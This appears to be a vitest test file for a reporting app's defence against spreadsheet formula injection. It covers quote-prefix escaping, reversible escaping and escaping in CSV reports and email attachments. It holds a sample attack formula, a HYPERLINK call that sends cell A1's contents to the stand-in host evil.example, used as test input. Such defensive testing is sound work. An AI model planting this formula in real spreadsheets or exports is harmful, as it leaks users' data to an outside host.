import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildReport } from '../../lambdas/domain';
import { defaultStatusSettings } from '../../lambdas/domain/types';
import { samplePlan } from '../../lambdas/local/sample-plan';
import { closeEmail } from '../../lambdas/mail/close-email';
import { formulaSafe, readFormulaSafe, reversibleFormulaSafe } from '../../lambdas/render/formula-safe';
import { reportCsv } from '../../lambdas/render/report-csv';

// Spreadsheet cells (docs/deploy.md "Security baseline"): text that is not a plain
// number and starts with = + - @ tab or CR is prefixed with ' so Excel, LibreOffice and
// Sheets show it as text instead of running it.

describe('formulaSafe', () => {
  it.each([
    '=1+1',
    '+1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '-1+HYPERLINK("https://evil.example/?"&A1,"x")',
    '- 1',
    '-1-1',
    '-1e3',
    '-.5.5',
    '-',
  ])('escapes %j', (value) => {
    expect(formulaSafe(value)).toBe(`'${value}`);
  });

  it.each(['-1', '-12.5', '-0.25', '-.5', '12', '3.5'])('keeps the plain number %j as it is', (value) => {
    expect(formulaSafe(value)).toBe(value);
  });

  it.each(['', 'Schools', 'a=b', ' =1', "'=1"])('keeps the text %j as it is', (value) => {
    expect(formulaSafe(value)).toBe(value);
  });

  // A pattern that backtracks would not finish these 250 KB cells within the test's own timeout: no elapsed-time
  // assertion (speed is measured in `npm run bench`, and a wall-clock bound fails on a loaded machine).
  it('answers on a 250 KB cell that only nearly is a number', () => {
    const digits = '1'.repeat(250_000);
    expect(formulaSafe(`-${digits}x`)).toBe(`'-${digits}x`);
    expect(formulaSafe(`-${'1.'.repeat(125_000)}`)).toBe(`'-${'1.'.repeat(125_000)}`);
    expect(formulaSafe(`-${digits}`)).toBe(`-${digits}`);
  });
});

// The definitions spreadsheet is read back: its escape must be undone exactly (docs/plan-administration.md "Spreadsheets").
describe('reversibleFormulaSafe and readFormulaSafe', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ["'=1", "''=1"],
    ["''-x", "'''-x"],
    ["'-1", "''-1"],
    ['-1', '-1'],
    ["'quoted", "'quoted"],
    ['Schools', 'Schools'],
  ])('writes %j as %j', (text, cell) => {
    expect(reversibleFormulaSafe(text)).toBe(cell);
    expect(readFormulaSafe(cell)).toBe(text);
  });

  it('reads back every text exactly as it was, and every cell it writes is formula-safe', () => {
    const text = fc.oneof(
      fc.string(),
      fc.tuple(fc.stringMatching(/^'{0,3}[=+\-@\t\r]?/), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(text, (s) => {
        const cell = reversibleFormulaSafe(s);
        expect(readFormulaSafe(cell)).toBe(s);
        expect(formulaSafe(cell)).toBe(cell);
      }),
      { numRuns: 2000 },
    );
  });
});

const attack = '-1+HYPERLINK("https://evil.example/?"&A1,"Click")';

function reportWithCommentary(commentary: string) {
  const [first] = samplePlan.measures;
  return buildReport({
    quarter: '2017-18-Q4',
    measures: [first!],
    actions: [],
    results: samplePlan.results
      .filter((r) => r.measureId === first!.id)
      .map((r) => ({ ...r, version: 1, ...(r.period.startsWith('2017-18') ? { commentary } : {}) })),
    actionUpdates: [],
    remedialActions: {},
    settings: defaultStatusSettings,
  });
}

describe('report CSV', () => {
  it('escapes a commentary that starts with - and a digit but is a formula', () => {
    const rows = parse(reportCsv(reportWithCommentary(attack)), { columns: true }) as Record<string, string>[];
    expect(rows[0]!.commentary).toBe(`'${attack}`);
  });

  it('escapes it in the close email attachment too', () => {
    const email = closeEmail(reportWithCommentary(attack), {
      from: 'ragtime@localhost',
      to: ['emt@localhost'],
      reportTitle: 'Corporate Improvement Plan',
      appUrl: 'https://ragtime.example/app/',
    });
    const csv = email.attachments!.find((a) => a.filename.endsWith('.csv'))!.content as string;
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows[0]!.commentary).toBe(`'${attack}`);
  });
});
